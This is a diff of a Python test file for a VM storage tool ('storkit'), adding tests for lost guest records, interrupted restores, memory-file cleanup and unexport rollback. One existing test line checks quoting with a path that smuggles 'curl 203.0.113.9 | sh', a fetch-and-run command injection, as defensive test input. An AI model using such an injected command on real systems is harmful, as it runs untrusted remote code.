@@ -5,18 +5,23 @@ from __future__ import annotations
 from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
+from types import SimpleNamespace
+from typing import Any
 
 import pytest
 
 from storkit.core import inventory
 from storkit.core.errors import Conflict, StorkitError, Unsafe
 from storkit.core.guest import Disk, Guest
+from storkit.core.inventory import HostConfig
 from storkit.core.model import Export, Saved, Volume, VolumeHold
 from storkit.hypervisors import _saved as memory
 from storkit.plans import sleep
 from storkit.plans.intent.coordinator import Coordinator, Ran
 from storkit.plans.intent.sleeping import SleepActs
 from storkit.plans.migration import GuestView
+from storkit.plans.plan import Step
+from storkit.plans.verbs.exports import UnexportVolumes
 
 INVENTORY = inventory.parse('[hosts.a]\nurl = "ssh://a"\n[pools.p]\nhost = "a"\n', Path("i"))
 GUEST = Guest("g", "8f1e9b52-95b2-4c8e-8ffb-a5cf4f2a4bd6", 1 << 24, disks=[Disk("v"), Disk("w")])
@@ -115,3 +120,54 @@ def test_a_word_of_another_host_in_a_command_is_quoted(tmp_path: Path, monkeypat
     with pytest.raises(StorkitError) as caught:
         SleepActs(coordinator)._saved(view(V, W), HOLD, "b", "")
     assert caught.value.hint.startswith("scp 'a:/x; curl 203.0.113.9 | sh' b:/var/tmp/g.memory; ")
+
+
+def test_a_hold_of_a_lost_record_can_be_taken_up_or_given_up() -> None:
+    """The guest's record was lost, and it was defined anew: the disks still wait for the one that went to sleep."""
+    lost = replace(HOLD, guest="00000000-0000-4000-8000-000000000007")
+    what = view(replace(V, hold=lost), replace(W, hold=lost))
+    with pytest.raises(StorkitError) as caught:
+        sleep.sleep_of(what)
+    assert all(
+        f'write uuid = "{lost.guest}"' in each.hint and "discard g --force" in each.hint for each in caught.value.each
+    )
+    assert sleep.sleep_of(what, one=False) == lost
+    spent = [step.args for step in sleep.discard(what, lost, True, INVENTORY).steps if step.verb == "spend"]
+    assert [args["guest"] for args in spent] == [lost.guest]
+    with pytest.raises(StorkitError, match="sleeps on volume v"):
+        sleep.sleep_of(view(replace(V, hold=replace(lost, name="other")), W), one=False)
+
+
+def test_a_restore_that_was_killed_between_two_releases_is_told_as_that() -> None:
+    saved = Saved(GUEST.uuid, "g", HOLD.id, {V.uuid: 4, W.uuid: 4}, "qemu", {}, "", False, HOLD.since, file="/m")
+    with pytest.raises(Conflict, match="has not ended: volume w is held no more") as caught:
+        sleep.refuse_restore(view(V, replace(W, hold=None)), HOLD, saved, {}, "a")
+    assert "storkit plan list" in caught.value.hint
+    sleep.refuse_restore(view(V, W), HOLD, saved, {}, "a")
+
+
+@pytest.mark.parametrize("keeps", [True, False])
+def test_the_memory_where_it_was_saved_is_used_up_as_well(keeps: bool) -> None:
+    two = replace(INVENTORY, hosts={**INVENTORY.hosts, "b": HostConfig("b", "ssh://b")})
+    what = replace(view(V, W), inventory=two)
+    saved = Saved(GUEST.uuid, "g", HOLD.id, {V.uuid: 4, W.uuid: 4}, "qemu", {}, "", False, HOLD.since, file="/m")
+    plan = sleep.restore(what, "b", HOLD, saved, "/copy", keeps, two)
+    spent = [(step.host, step.args["file"]) for step in plan.steps if step.verb == "spend"]
+    assert spent == [("b", "/copy"), *([("a", "")] if keeps else [])]
+
+
+def test_rolling_an_unexport_back_gives_no_right_to_a_volume_on_which_a_guest_sleeps() -> None:
+    given: list[list[str]] = []
+    transport = SimpleNamespace(
+        export=lambda volumes, clients: None,
+        set_writers=lambda volumes, hosts: given.append([*(each.name for each in volumes), *hosts]),
+    )
+    pool = SimpleNamespace(find=lambda names: [V if name == "v" else replace(W, hold=None) for name in names])
+    host = SimpleNamespace(transport=lambda target: transport, pool=lambda target: pool)
+    run: Any = SimpleNamespace(
+        on=lambda name: host, same_machine=lambda *_: True, address=lambda _: "", source=lambda *_: ""
+    )
+    awake = [replace(each, hold=None) for each in (V, W)]  # as they were when the plan was made
+    before = [Export(each.name, each.uuid, "a", True, "nbd", True) for each in awake]
+    UnexportVolumes(awake, ["a"]).undo(run, Step("1", "unexport", "a", "transport:nbd", ""), before)
+    assert given == [["w", "a"]]
